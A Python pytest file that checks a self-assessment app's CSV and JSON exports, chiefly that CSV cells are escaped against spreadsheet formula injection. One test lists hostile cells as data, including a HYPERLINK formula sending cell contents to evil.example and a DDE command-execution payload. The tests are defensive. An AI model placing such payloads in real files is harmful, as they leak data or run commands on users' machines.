"""Exports: JSON shape, and CSV that a spreadsheet cannot run as formulas."""

from __future__ import annotations

import csv
import io

import pytest

from selfassess.exports import SCORES_HEADER, neutralise, report_to_csv, report_to_dict, write_csv
from selfassess.policy import SYSTEM
from selfassess.services import reports

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+41 79 000 00 00", "'+41 79 000 00 00"),
        ("-3 (declined)", "'-3 (declined)"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\rX", "'\rX"),
        ("plain", "plain"),
        (-0.25, -0.25),  # numbers stay numbers
    ],
)
def test_neutralise(cell, safe):
    assert neutralise(cell) == safe


def test_written_csv_has_no_cell_starting_with_a_trigger():
    hostile = [
        '=HYPERLINK("http://evil.example/?d="&B2,"x")',
        "=cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "+1",
        "-1",
        "\t=1",
        "שלום",
        "<b>",
    ]
    text = write_csv(["a"], [[h] for h in hostile])
    cells = [row[0] for row in csv.reader(io.StringIO(text))][1:]
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    assert [c.removeprefix("'") for c in cells] == hostile


def scores_rows(app, round_id):
    with app.app_context():
        report = reports.round_report(SYSTEM, round_id)
    return report_to_dict(report), list(csv.DictReader(io.StringIO(report_to_csv(report))))


def test_scores_csv_is_long_and_matches_the_json(app, worked_round):
    data, rows = scores_rows(app, worked_round)
    assert list(rows[0]) == list(SCORES_HEADER)
    trust_items = {
        r["figure_id"]: float(r["value"])
        for r in rows
        if r["partner"] == "Trust" and r["figure_kind"] == "item"
    }
    assert trust_items == data["scores"]["trust"]["items"]
    gaps = {r["figure_id"]: r["value"] for r in rows if r["figure_kind"] == "gap"}
    assert gaps["i2"] == "-0.1"  # numbers are written as numbers, not guarded
    assert data["items"]["i2"]["gap"] == -0.1


def test_scores_csv_names_trust_round_and_titles_and_keeps_values_numeric(app, worked_round):
    _, rows = scores_rows(app, worked_round)
    assert {(r["trust"], r["round"]) for r in rows} == {("Ashvale", "Baseline")}
    assert {r["partner"] for r in rows} == {"Trust", "Council", "PCT", "Schools", "Police"}
    titles = {(r["figure_kind"], r["figure_id"]): r["figure_title"] for r in rows}
    assert titles["item", "i1"] == "Item one"
    assert titles["section", "s2"] == "Section two"
    assert titles["phase", "3"] == "Improving performance, monitoring and evaluating"
    for row in rows:  # every value is a number or empty (undefined); never text
        if row["value"]:
            float(row["value"])
    marks = {r["partner"]: r["marks"] for r in rows}
    assert marks["PCT"] == "provisional draft one_respondent"
    assert marks["Trust"] == "provisional draft"
    # One row per (partner or Trust, kind, id): the table is long ("tidy").
    keys = [(r["partner"], r["figure_kind"], r["figure_id"]) for r in rows]
    assert len(keys) == len(set(keys))
